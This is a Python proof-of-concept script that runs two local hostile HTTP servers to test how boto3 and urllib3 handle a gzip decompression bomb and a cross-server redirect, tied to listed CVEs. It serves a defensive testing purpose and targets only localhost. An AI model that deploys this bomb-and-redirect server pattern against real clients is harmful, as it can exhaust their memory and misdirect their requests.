"""Answers boto3, and then urllib3 itself, as a hostile server would; prints what each made of it. No network needed.

The bucket's keys: bomb is a small gzip of 64 MiB (CVE-2025-66418, CVE-2025-66471), moved sends the same with a redirect to
another server (CVE-2025-50181, CVE-2026-21441, CVE-2026-44431).
"""

import gzip
import http.server
import threading

import boto3
import botocore.config
import botocore.exceptions
import urllib3

BOMB = gzip.compress(bytes(64 << 20))
seen = []


class Hostile(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        seen.append(self.server.server_port)
        moved = self.path.endswith("moved")
        self.send_response(307 if moved else 200)
        if moved:
            self.send_header("Location", f"http://127.0.0.1:{other.server_port}/bomb")
        self.send_header("Content-Encoding", "gzip")
        self.send_header("Content-Length", str(len(BOMB)))
        self.end_headers()
        self.wfile.write(BOMB)

    def log_message(self, *_):
        pass


def start():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Hostile)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def redirected():
    return "asked the other server" if other.server_port in seen else "asked no other server"


hostile, other = start(), start()
url = f"http://127.0.0.1:{hostile.server_port}"
s3 = boto3.client(
    "s3",
    endpoint_url=url,
    region_name="us-east-1",
    aws_access_key_id="key",
    aws_secret_access_key="secret",
    config=botocore.config.Config(retries={"max_attempts": 1}),
)

body = s3.get_object(Bucket="bucket", Key="bomb")["Body"].read()
print("boto3 bomb:", "as it came" if body == BOMB else f"decoded to {len(body)} bytes")
try:
    s3.get_object(Bucket="bucket", Key="moved")["Body"].read()
    print("boto3 moved: read,", redirected())
except botocore.exceptions.ClientError:
    print("boto3 moved: refused,", redirected())

pool = urllib3.PoolManager()
print("urllib3 bomb: decoded to", len(pool.request("GET", url + "/bucket/bomb").data), "bytes")
pool.request("GET", url + "/bucket/moved")
print("urllib3 moved:", redirected())
